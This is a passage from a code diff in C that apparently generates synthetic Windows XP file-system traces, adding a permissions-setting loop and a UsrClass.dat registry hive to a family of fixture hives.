+    for (size_t i = 0; i < N_TRACES; i++) {
+        if (strcmp(traces[i].set, set) == 0 && traces[i].place == place &&
+            traces[i].type == PERMISSIONS) {
+            set_permissions(full, &traces[i]);
+        }
     }
 }
 
@@ -522,6 +879,8 @@ size_t make_family_traces(const char *root, const char *set) {
     into_hive(root, "WINDOWS/system32/config/SYSTEM", set, SYSTEM, LAST_GOOD_GONE);
     into_hive(root, "WINDOWS/system32/config/software", set, SOFTWARE, SOFTWARE);
     into_hive(root, "Documents and Settings/mari/NTUSER.DAT", set, USER, USER);
+    into_hive(root, MARI "Local Settings/Application Data/Microsoft/Windows/UsrClass.dat", set,
+              CLASSES, CLASSES);
     return n;
 }
 
